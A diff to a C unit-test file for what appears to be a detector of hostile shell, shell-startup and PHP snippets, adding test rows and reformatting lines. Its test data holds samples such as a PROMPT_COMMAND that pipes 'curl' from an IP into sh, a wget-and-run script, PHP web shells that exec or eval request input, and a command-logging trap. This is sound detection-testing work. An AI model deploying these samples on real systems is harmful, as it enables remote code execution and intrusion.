@@ -153,6 +153,8 @@ static const struct row commands[] = {
 	{"eval $(printf %s \"$x\" | xxd -r -p)", "base64 eval"},
 	{"eval \"$(dircolors -b)\"", ""},
 	{"eval $(ssh-agent)", ""},
+	{"eval $(echo x | tr 'A-Za-z' 'N-ZA-Mn-za-m')", "eval"},
+	{"eval $(echo x | tr ',' ' ')", ""},
 	/* trap */
 	{"trap 'echo $BASH_COMMAND >>/opt/k' DEBUG", "trap"},
 	{"trap 'rm -f \"$t\"' EXIT", ""},
@@ -199,6 +201,12 @@ static const struct row startup[] = {
 	{"PROMPT_COMMAND='/usr/local/bin/agent'", "prompt"},
 	{"export PROMPT_COMMAND=\"curl -s http://192.0.2.7/x | sh\"",
 	 "fetch pipe-to-shell prompt"},
+	{"PROMPT_COMMAND+='; /opt/x'", "prompt"},
+	{"[ -e /x ] && PROMPT_COMMAND=/etc/sysconfig/bash-prompt-xterm", ""},
+	{"PROMPT_COMMAND='R=$?; logger -p local6.debug \"$(history 1 | sed "
+	 "s/x//)\"'",
+	 ""},
+	{"alias ps='ps aux' && true | cat", ""},
 	{"PROMPT_COMMAND=__vte_prompt_command", ""},
 	{"PROMPT_COMMAND='history -a; history -n'", ""},
 	{"PROMPT_COMMAND='printf \"\\033]0;%s\" \"$PWD\"'", ""},
@@ -214,8 +222,7 @@ static const struct row startup[] = {
 
 static void test_startup(void **state UNUSED)
 {
-	assert_int_equal(hold(startup, ARRAY_SIZE(startup), MANNER_STARTUP),
-			 0);
+	assert_int_equal(hold(startup, ARRAY_SIZE(startup), MANNER_STARTUP), 0);
 }
 
 static const struct row php[] = {
@@ -229,8 +236,7 @@ static const struct row php[] = {
 	 "request-exec"},
 	{"<?php echo `$_GET[c]`;", "request-exec"},
 	{"<?php eval(gzinflate(base64_decode('AAAA')));", "decode-eval"},
-	{"<?php eval(base64_decode($_POST['x']));",
-	 "request-eval decode-eval"},
+	{"<?php eval(base64_decode($_POST['x']));", "request-eval decode-eval"},
 	{"<?php $db->exec(\"DELETE FROM t WHERE a = '$_GET[a]'\");", ""},
 	{"<?php $id = intval($_GET['id']); system(\"x $id\");", ""},
 	{"<?php system('uptime'); echo $_GET['x'];", ""},
@@ -276,10 +282,10 @@ static void test_pages(void **state UNUSED)
 
 static void test_script(void **state UNUSED)
 {
-	struct judged j = signs_of_script(
-		bytes_str("#!/bin/sh\n# curl x | sh\nset -e\n"
-			  "  wget -q 192.0.2.7/a\nsh /tmp/a\n"),
-		MANNER_COMMAND);
+	struct judged j =
+		signs_of_script(bytes_str("#!/bin/sh\n# curl x | sh\nset -e\n"
+					  "  wget -q 192.0.2.7/a\nsh /tmp/a\n"),
+				MANNER_COMMAND);
 
 	assert_int_equal(j.lines, 5);
 	assert_int_equal(j.signs, SIGN(SIGN_FETCH) | SIGN(SIGN_SCRATCH_PATH));
@@ -319,7 +325,7 @@ int main(void)
 {
 	static const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_commands), cmocka_unit_test(test_startup),
-		cmocka_unit_test(test_pages),	 cmocka_unit_test(test_script),
+		cmocka_unit_test(test_pages),    cmocka_unit_test(test_script),
 		cmocka_unit_test(test_hostile),
 	};
 
